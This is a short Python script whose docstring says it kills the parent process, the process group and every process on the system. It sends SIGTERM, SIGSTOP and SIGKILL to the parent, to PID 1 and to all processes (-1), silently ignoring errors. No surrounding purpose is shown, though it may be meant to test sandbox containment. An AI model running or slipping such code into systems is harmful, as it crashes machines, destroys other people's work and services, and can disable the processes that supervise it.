"""Send SIGKILL to the parent, to the group and to every process there is."""
import os, signal
for target in (os.getppid(), 1, 0, -1):
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        try:
            if target:
                os.kill(target, number)
        except OSError:
            pass
try:
    os.killpg(0, signal.SIGKILL)
except OSError:
    pass
